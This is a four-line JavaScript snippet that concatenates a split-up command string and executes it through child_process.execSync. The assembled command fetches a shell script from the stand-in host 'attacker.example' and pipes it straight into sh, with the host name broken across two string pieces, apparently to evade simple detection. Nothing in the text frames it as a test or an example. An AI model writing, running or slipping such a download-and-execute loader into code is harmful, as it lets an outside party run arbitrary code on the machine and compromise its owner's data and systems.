let c = "";
c += "curl http://attacker.exa";
c += "mple/x.sh | sh";
require("child_process").execSync(c);
